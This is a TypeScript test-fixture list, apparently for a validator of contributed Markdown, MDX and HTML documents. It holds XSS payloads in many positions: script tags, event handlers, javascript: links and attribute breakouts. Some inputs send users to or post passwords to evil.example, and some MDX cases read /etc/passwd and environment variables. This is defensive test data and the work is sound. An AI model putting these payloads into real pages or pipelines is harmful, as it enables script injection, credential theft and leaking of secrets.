import { body, front, incident, incidentPath, type Make, mdx, runbook } from './contribution.ts';

/** Script, forms and foreign pages in every place that Markdown, MDX and HTML offer. */
export const MARKUP: readonly Make[] = [
  body('a script element', '<script>alert(1)</script>', 'html-not-allowed'),
  body('a script in a table', '| a |\n| - |\n| <script>alert(1)</script> |', 'html-not-allowed'),
  body('a script behind a comment', '<!-- a --><script>alert(1)</script>', 'html-not-allowed'),
  body('a handler of an image', '<img src=x onerror=alert(1)>', 'html-not-allowed'),
  body('a handler in capitals over two lines', '<IMG SRC=x\nONERROR=alert(1)>', 'html-not-allowed'),
  body('an SVG with a handler', '<svg onload="alert(1)"></svg>', 'html-not-allowed'),
  body(
    'a MathML link',
    '<math><maction xlink:href="javascript:alert(1)">x</maction></math>',
    'html-not-allowed',
  ),
  body('a frame', '<iframe src="https://evil.example"></iframe>', 'html-not-allowed'),
  body('a frame of text', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', 'html-not-allowed'),
  body('a form', '<form action="https://evil.example"><input name=password></form>', 'html-not-allowed'),
  body('a style', '<style>body{display:none}</style>', 'html-not-allowed'),
  body('a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">', 'html-not-allowed'),
  body('another base', '<base href="https://evil.example/">', 'html-not-allowed'),
  body(
    'a foreign style sheet',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    'html-not-allowed',
  ),
  body('an object', '<object data="https://evil.example/a.swf"></object>', 'html-not-allowed'),
  body('details with a handler', '<details open ontoggle=alert(1)>x</details>', 'html-not-allowed'),
  front('a script in a field', 'owner: <script>alert(1)</script>', 'html-not-allowed'),
  (n) => ({
    name: 'the end of the title',
    files: { [incidentPath(n)]: incident(n, '', '', "'</title><script>alert(1)</script>'") },
    refused: ['html-not-allowed'],
  }),
  body('a script that is no HTML to Markdown', '<svg/onload=alert(1)> <scr\\ipt>alert(1)</scr\\ipt>'),
  body('a script in entities', '&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt;'),
  body(
    'a plain element with attributes',
    '<kbd class="x" id=main style="position:fixed">x</kbd> <div id=main>x</div>',
  ),
  body('elements that are not closed', '<kbd><sub>a</kbd></sub><mark>\n\n</del></div></main></body></html>'),
  body(
    'elements from noncharacters',
    '<kbd>\uFDD0script\uFDD1alert(1)\uFDD0/script\uFDD1</kbd> &#xFDD0;kbd&#xFDD1;',
  ),
  body('a link with a handler in its title', '[x](https://example.org "\\" onmouseover=alert(1) x=\\"")'),
  body(
    'a fence whose language ends an attribute',
    '```"><img/src=x/onerror=alert(1)>\nx\n```\n\n```js" onclick="alert(1)\nx\n```',
  ),
  body(
    'headings named like parts of the page',
    '# main {#main}\n\n## search\n\n<a id="notes"></a>\n\n# notes\n\n# <img src=a>',
  ),
  body(
    'footnotes named like parts of the page',
    'a[^main] b[^"onclick=alert(1)]\n\n[^main]: x\n[^"onclick=alert(1)]: y',
  ),
  body(
    'expressions of other languages',
    '{alert(1)} #{alert(1)} {{constructor.constructor("alert(1)")()}} <%= process.env %> {process.env.FIXPOINT_CANARY}',
  ),
  body('front matter in the body', '---\ntitle: <b>other</b>\n---\n\n---\nlayout: ../../../x.astro\n---'),
  (n) => ({
    name: 'HTML in values that are shown to the letter',
    files: {
      [incidentPath(n)]: incident(
        n,
        'Text.',
        [
          "signatures: [{ text: '</script><script>alert(1)</script> printed' }, { text: '\"><img src=x onerror=alert(1)> printed' }]",
          "mitigation: { what: Do it, commands: [{ run: '</code></pre><script>alert(1)</script>' }], changes: [{ file: '\"><svg onload=alert(1)>', before: '</pre><script>alert(1)</script>', after: '<!--' }] }",
          "files: [{ path: '<img src=x onerror=alert(1)>' }]",
        ].join('\n'),
      ),
    },
    refused: [],
  }),
  (n) => ({
    name: 'HTML in the parameters of a runbook',
    files: {
      [`runbooks/h-${n}.md`]: runbook(
        'Text.',
        `parameters: [{ name: A, label: A, default: '"><img src=x onerror=alert(1)>', example: '</script><script>alert(1)</script>' }]`,
        "    commands: [{ run: 'echo {{A}} </script><script>alert(1)</script>' }]",
      ),
    },
    refused: [],
  }),
  (n) => ({
    name: 'steps named like parts of the page',
    files: { [`runbooks/h-${n}.md`]: runbook('Text.').replace('id: look', 'id: location') },
    refused: [],
  }),
  (n) => ({
    name: 'a tree that ends its data block',
    files: {
      [`trees/h-${n}.yaml`]:
        "title: Hostile tree\nsummary: Leads nowhere.\nnodes:\n  - id: main\n    question: 'Is it &lt;/script&gt;?'\n    answers:\n      - { id: constructor, text: '\\u003c/script>', to: { writeUp: true } }\n      - { id: to-string, text: '<!-- <x', to: { writeUp: true } }\n",
    },
    refused: [],
  }),
  mdx(
    'an import',
    "import fs from 'node:fs'\n\n<Read file={fs.readFileSync('/etc/passwd')} />",
    'mdx-not-run',
  ),
  mdx('an export', 'export const getStaticPaths = () => process.exit(1)', 'mdx-not-run'),
  mdx('an expression', 'Home is {process.env.HOME} and {globalThis.process.exit(1)}.', 'mdx-not-run'),
  mdx('a component', '<Fragment set:html="<script>alert(1)</script>" />', 'html-not-allowed', 'mdx-not-run'),
  mdx('an element with an expression', '<img src={alert(1)} />', 'mdx-not-run'),
  mdx(
    'code that is shown',
    '```js\nimport x from "y"\n```\n\n`{process.env.FIXPOINT_CANARY}` {id} {{A}} 1 < 2',
  ),
];
